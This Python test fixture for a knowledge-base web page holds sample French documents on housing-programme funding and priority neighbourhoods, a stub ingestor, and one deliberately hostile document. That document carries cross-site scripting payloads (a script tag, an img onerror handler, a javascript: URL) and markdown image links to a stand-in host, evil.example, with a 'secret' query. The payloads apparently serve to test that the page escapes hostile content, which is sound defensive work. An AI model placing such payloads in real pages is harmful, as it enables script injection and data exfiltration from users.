"""What the page is tested with: ordinary and hostile documents, and an ingestor whose state the test sets."""

from __future__ import annotations

from collections.abc import Callable

from kb.types import Document
from kb.ui.ports import IngestionProgress

ServePage = Callable[..., str]

FINANCING = Document(
    id="financement.md",
    source="d",
    title="Qui finance le programme",
    text=(
        "## Les financeurs\n\n"
        "Le programme est financé par trois partenaires. Action Logement apporte 72 % des aides du programme, "
        "soit 8,4 milliards d'euros. Le reste vient de l'État.\n\n"
        "| Financeur | Montant |\n| --- | --- |\n| Action Logement | 8,4 milliards |\n| Union sociale | 2,4 milliards |"
    ),
    url="https://www.example.org/financement",
    date="2025-12-04",
    rubric="Financement",
    kind="article",
)
QUARTERS = Document(
    id="quartiers.md",
    source="d",
    title="Les quartiers",
    text="Le renouvellement concerne 448 quartiers prioritaires.\n\n- Lyon : 12 quartiers prioritaires\n- Lille : 9",
    date="2024-12",
)
HOSTILE = Document(
    id="piege.html",
    source="d",
    title="<script>document.title='pris'</script>![](https://evil.example/?q=) **gras**",
    text=(
        "Le dossier piégé contient <img src=x onerror=\"document.title='pris'\"> et "
        "![](https://evil.example/?q=secret) dans sa phrase piégée. "
        "[Un lien](https://evil.example/) $$x$$ _souligné_ `code`."
    ),
    url="javascript:document.title='pris'",
    rubric="<b>rubrique</b>",
)
DOCUMENTS = (FINANCING, QUARTERS, HOSTILE)
EXAMPLES = ("Qui finance le programme ?", "Combien de quartiers prioritaires ?", "Que dit <script> ?", "Et Lyon ?")


class StillIngestor:
    """An ingestor whose progress the test sets; starting one is told by it."""

    def __init__(self) -> None:
        self.now = IngestionProgress()

    def progress(self) -> IngestionProgress:
        """What the test set."""
        return self.now

    def start(self) -> None:
        """An ingestion that stands at 12 of 44 documents."""
        self.now = IngestionProgress(running=True, done=12, total=44)
